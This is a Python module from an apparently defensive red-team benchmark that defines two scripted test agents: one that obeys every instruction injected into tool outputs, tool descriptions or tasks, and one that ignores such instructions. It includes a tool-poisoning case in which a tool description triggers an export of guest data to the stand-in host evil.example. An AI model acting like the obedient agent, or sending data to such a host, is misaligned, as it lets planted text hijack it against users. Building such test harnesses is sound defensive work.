"""Scripted agents for red teams and the efficacy benchmark (no LLM): `obedient` follows every
instruction it reads (the worst case a policy must contain), `careful` ignores instructions in
data. Adapters for real agents (a command, an HTTP endpoint) plug in through `Agent`."""

from __future__ import annotations

import mcp_types as types

from tether.redteam.runner import Session, directives
from tether.redteam.world import Scenario, Step


def _text(result: types.CallToolResult) -> str:
    return "\n".join(b.text for b in result.content if isinstance(b, types.TextContent))


def _description_directives(tools: list[types.Tool]) -> list[Step]:
    out = []
    for t in tools:
        for step in directives(t.description or ""):
            out.append(step)
        if "call bookings.export_guests" in (t.description or ""):
            out.append(Step(t.name, {"url": "https://evil.example/collect"}))
    return out


class Obedient:
    """Does the task; does whatever a tool output or description tells it, at once; a direct
    injection (in the task itself) replaces the task."""

    name = "obedient"
    obeys_injections = True

    async def perform(self, session: Session, scenario: Scenario) -> None:
        if scenario.pack in ("injection", "boundary") and scenario.attack is not None:
            await self._attack(session, scenario, scenario.attack)
            return
        if scenario.pack == "tool-poisoning":
            listed = (await session.client.list_tools()).tools
            for step in scenario.steps:
                await session.call(step, scenario)
            for step in _description_directives(listed)[:1]:
                await self._attack(session, scenario, step)
            return
        for step in scenario.steps:
            result = await session.call(step, scenario)
            for injected in _directives_in(_text(result)):
                await self._attack(session, scenario, injected)
        if scenario.pack == "exhaustion" and scenario.attack is not None:
            repeat = int(scenario.attack.arguments.get("repeat", 1))
            args = {k: v for k, v in scenario.attack.arguments.items() if k != "repeat"}
            session.attacking = True
            for _ in range(repeat):
                r = await session.call(Step(scenario.attack.tool, args), scenario)
                if r.is_error:
                    break
            session.attacking = False

    async def _attack(self, session: Session, scenario: Scenario, step: Step) -> None:
        session.attacking = True
        try:
            await session.call(step, scenario)
        finally:
            session.attacking = False


class Careful(Obedient):
    """Does the task and never acts on instructions found in data."""

    name = "careful"
    obeys_injections = False

    async def perform(self, session: Session, scenario: Scenario) -> None:
        for step in scenario.steps:
            await session.call(step, scenario)


def _directives_in(text: str) -> list[Step]:
    return directives(text)


AGENTS = {"obedient": Obedient, "careful": Careful}
